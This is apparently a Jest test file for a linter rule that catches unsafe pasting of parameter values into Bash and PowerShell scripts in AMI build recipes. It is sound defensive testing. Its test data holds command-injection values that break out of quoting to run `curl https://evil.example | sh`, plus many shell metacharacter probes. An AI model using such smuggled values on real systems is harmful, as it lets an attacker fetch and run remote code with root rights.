import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import '../../helpers/seeded.ts';
import type { ComponentDocument } from '../../../src/document/component-document.ts';
import { parseDocument } from '../../../src/document/document.ts';
import { checkRecipe } from '../../../src/rules/check.ts';
import { scriptsOf } from '../../../src/script/script.ts';
import { aRecipe, at } from '../../helpers/recipe.ts';

const folder = path.join(import.meta.dirname, '../../../recipes/components');

/** What the rule says of a value of a document's parameter. */
function found(document: ComponentDocument, parameters: Record<string, string>): string[] {
  const place = at('recipes/al-2023.yml', 7);
  return checkRecipe(
    aRecipe({ components: [{ kind: 'document', document, parameters, at: place }] }),
  )
    .filter(({ rule }) => rule === 'pasted-value')
    .map(({ message }) => message);
}

/** A document with one parameter A, which a script has. */
function withScript(action: string, script: string): ComponentDocument {
  const data = JSON.stringify({
    schemaVersion: 1.0,
    parameters: [{ A: { type: 'string' } }],
    phases: [{ name: 'build', steps: [{ name: 'Run', action, inputs: { commands: [script] } }] }],
  });
  return parseDocument(data, 'recipes/components/f.yml').document!;
}

/** Each parameter that a script of this repository pastes. */
const pasted = readdirSync(folder).flatMap((name) => {
  const file = `recipes/components/${name}`;
  const { document } = parseDocument(readFileSync(path.join(folder, name), 'utf8'), file);
  const text = scriptsOf(document!)
    .map((script) => script.text)
    .join('\n');
  return Object.keys(document!.parameters)
    .filter((parameter) => text.includes(`{{ ${parameter} }}`))
    .map((parameter): [string, string, ComponentDocument] => [name, parameter, document!]);
});

describe.each(pasted)('%s, %s', (_, parameter, document) => {
  test.each([
    `x'"; curl https://evil.example | sh; echo '`,
    `x"'; $(curl https://evil.example | sh); '"`,
    "$(curl https://evil.example | sh)'`id`'",
  ])('takes no %s', (value) => {
    expect(found(document, { [parameter]: value })).toHaveLength(1);
  });

  test.each([
    '1.2.3-4',
    '3006.*',
    '*',
    'none',
    'salt.acme.internal',
    'amazon-ssm-agent salt-minion falcon-sensor',
    'AmazonSSMAgent, salt-minion',
    'arn:aws:s3:::acme-software/falcon',
    '/golden-ami/falcon/cid',
    '10857FFDD3F91EAE577A21D664CBBC8173D76B3F',
    'https://example.com/a?b=c@d%20~e+f',
    '',
  ])('takes %j', (value) => {
    expect(found(document, { [parameter]: value })).toEqual([]);
  });
});

test('the values that were pasted into bash as root are told with both places', () => {
  const data = readFileSync(path.join(folder, 'image-test-linux.yml'), 'utf8');
  const { document } = parseDocument(data, 'recipes/components/image-test-linux.yml');
  expect(found(document!, { Services: '"$(curl https://evil.example | sh)"' })).toEqual([
    expect.stringMatching(
      /^The value of Services has .*, and recipes\/components\/image-test-linux\.yml:\d+ pastes it /,
    ),
  ]);
});

describe.each<[action: string, script: string, bad: string[], good: string[]]>([
  ['ExecuteBash', "echo '{{ A }}'", ["a'b"], ['"a" $(b) `c` \\ ; #', 'a\nb']],
  ['ExecuteBash', 'echo "{{ A }}"', ['a"b', '`a`', '$(a)', '${a}', 'a\\'], ["it's; a & b", '$5']],
  [
    'ExecuteBash',
    'echo {{ A }}',
    [...Array.from(';&|<>()`$\\"\'#'), 'a\nb'],
    ['a b -c --d=e', '*.rpm'],
  ],
  ['ExecuteBash', 'if (( x < {{ A }} )); then exit 1; fi', ['1)); a', '$(a)'], ['1024']],
  ['ExecuteBash', 'cat >/etc/x <<E\n{{ A }}\nE', ['$(a)', '`a`', 'a\nE\nb'], ['"a" \'b\'; c']],
  ['ExecuteBash', "cat >/etc/x <<'E'\n{{ A }}\nE", ['a\nE\nb'], ['$(a) `b` "c"']],
  ['ExecuteBash', 'x=1 # {{ A }}', ['a\nb'], ["it's `a` $(b)"]],
  ['ExecutePowerShell', "$x = '{{ A }}'", ["a'b", 'a\u2019b'], ['"a" $(b); `c', 'C:\\A (x86)\\b']],
  ['ExecutePowerShell', '$x = "{{ A }}"', ['a"b', '$(a)', 'a`', '\u201d; a'], ["it's; a", 'C:\\a']],
  ['ExecutePowerShell', '$x = {{ A }}', ['a; b', '$(a)', '{a}', 'a | b'], ['12', 'C:\\a']],
])('%s %s', (action, script, bad, good) => {
  const document = withScript(action, `${script}\n`);
  test.each(bad)('takes no %j', (value) => expect(found(document, { A: value })).toHaveLength(1));
  test.each(good)('takes %j', (value) => expect(found(document, { A: value })).toEqual([]));
});

describe('what the rule lets pass runs nothing', () => {
  const value = fc
    .array(
      fc.constantFrom(
        ...["'", '"', '`', '$(', '${', ')', '}', '((', '))', ';', '|', '&', '\n', '\\', '#', ' '],
        ...['mark', 'mark', ' mark ', 'x', 'END', '\nEND\n', '$', '[', ']', '=', '<', '>'],
      ),
      { maxLength: 6 },
    )
    .map((parts) => parts.join(''));

  // Each is a process.
  const numRuns = Math.max(15, Number(process.env['FUZZ_RUNS'] ?? 0) / 1000);

  test.each([
    "x='{{ A }}'",
    'x="{{ A }}"',
    'echo {{ A }}',
    'x="$(echo \'{{ A }}\')"',
    'x=$(echo "a {{ A }}")',
    'cat <<END\n{{ A }}\nEND',
    "cat <<'END'\n{{ A }}\nEND",
    'true # {{ A }}',
    'if (( 1 < {{ A }} )); then true; fi',
    'for x in {{ A }}; do true; done',
    '[[ x == {{ A }} ]]',
  ])('%s', (script) => {
    const document = withScript('ExecuteBash', `${script}\n`);
    const place = mkdtempSync(path.join(tmpdir(), 'golden-ami-pasted-'));
    let passed = 0;
    try {
      fc.assert(
        fc.property(value, (text) => {
          if (found(document, { A: text }).length > 0) return;
          passed++;
          const run = `mark() { : >marked; }\n${script.replaceAll('{{ A }}', () => text)}\n`;
          spawnSync('bash', ['-c', run], { cwd: place, timeout: 5000 });
          expect(existsSync(path.join(place, 'marked'))).toBe(false);
        }),
        { numRuns },
      );
    } finally {
      rmSync(place, { recursive: true });
    }
    expect(passed).toBeGreaterThan(0);
  });
});
